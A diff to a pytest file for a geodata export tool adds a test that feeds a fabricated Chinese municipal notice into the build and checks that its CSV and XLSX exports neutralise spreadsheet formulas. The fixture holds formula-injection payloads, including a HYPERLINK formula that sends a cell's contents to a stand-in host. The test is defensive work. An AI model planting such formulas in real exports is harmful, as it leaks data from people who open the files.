@@ -459,7 +459,7 @@ def test_empty_result_is_a_valid_file_with_a_warning(store, tmp_path, caplog):
         ({"crs": "EPSG:3857"}, r"unknown CRS 'EPSG:3857'; choose one of EPSG:4326"),
         ({"sector": "软件信思"}, r"unknown sector '软件信思'; did you mean .*software-info"),
         ({"sector": "quantum-gastronomy"}, r"unknown sector"),
-        ({"district": "火星区"}, r"unknown district '火星区'"),
+        ({"district": "火星区"}, r"unknown district: no administrative unit is called '火星区'"),
         ({"kind": "castle"}, r"unknown kind 'castle'; choose one of park"),
         ({"out": "parks.txt"}, r"must end with \.gpkg"),
         ({"layer": "districts", "sector": "finance"}, r"districts layer has per-sector counts"),
@@ -504,3 +504,69 @@ def test_a_failed_export_leaves_the_previous_file_untouched(
         export(store, "parks", fmt, target)
     assert {p.name: p.read_bytes() for p in tmp_path.iterdir()} == before
     assert leftovers(tmp_path) == []
+
+
+# --- hostile text ---------------------------------------------------------------------
+
+HOSTILE = (
+    "重庆市渝中区人民政府关于加快楼宇经济发展的通知\n"
+    '=HYPERLINK("http://x?leak="&A2,"x")依托解放碑金融大厦、+SUM(1,2)大厦等重点楼宇，聚焦金融服务。\n'
+    "@SUM(1+1)产业园重点发展软件信息。\n"
+)
+"""An uploaded document whose clauses (the ``quote`` column) and names start as
+spreadsheet formulas would."""
+
+
+@pytest.fixture(scope="module")
+def hostile_store(tmp_path_factory) -> GeoPackageStore:
+    """The built-in corpus and the hostile document, built."""
+    from clustermap import settings
+
+    docs = tmp_path_factory.mktemp("docs")
+    shutil.copytree(settings.CORPUS_DIR, docs, dirs_exist_ok=True)
+    (docs / "hostile.txt").write_text(HOSTILE, encoding="utf-8")
+    return GeoPackageStore(build([docs], tmp_path_factory.mktemp("atlas"), force=True).path)
+
+
+def _csv_cells(path: Path) -> list[str]:
+    with open(path, encoding="utf-8-sig", newline="") as f:
+        return [cell for row in csv.reader(f) for cell in row]
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_exports_of_hostile_text_hold_no_formula(hostile_store, tmp_path):
+    from layers import coverage_report
+    from layers.coverage import analyse
+
+    csv_path = export(hostile_store, "places", "csv", tmp_path / "places.csv")
+    xlsx_path = export(hostile_store, "places", "xlsx", tmp_path / "places.xlsx")
+    analysis = analyse(hostile_store)
+    coverage_csv = coverage_report.write(analysis, "csv", tmp_path / "coverage.csv")
+    coverage_xlsx = coverage_report.write(analysis, "xlsx", tmp_path / "coverage.xlsx")
+
+    cells = _csv_cells(csv_path)
+    quoted = [c for c in cells if c.startswith("'=HYPERLINK(")]
+    assert quoted, "the hostile clause is kept, neutralised"
+    for path in (csv_path, coverage_csv):
+        risky = [c for c in _csv_cells(path) if c.startswith(formats.FORMULA_STARTS)]
+        assert all(_is_number(c) for c in risky), risky[:3]  # -3.5 stays a number
+
+    for path in (xlsx_path, coverage_xlsx):
+        book = openpyxl.load_workbook(path)
+        every = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+        assert not [c.coordinate for c in every if c.data_type == "f"]
+        texts = [c for c in every if isinstance(c.value, str) and c.value.startswith("=")]
+        assert all(c.quotePrefix for c in texts)
+    book = openpyxl.load_workbook(xlsx_path)
+    clauses = [c.value for row in book["buildings"].iter_rows() for c in row]
+    assert any(str(v).startswith('=HYPERLINK("http://x?leak="') for v in clauses), "text intact"
+    sheet = book["buildings"]
+    lon = [c.value for c in sheet[1]].index("经度 Lon (WGS-84)")
+    assert all(isinstance(row[lon], float) for row in sheet.iter_rows(min_row=2, values_only=True))
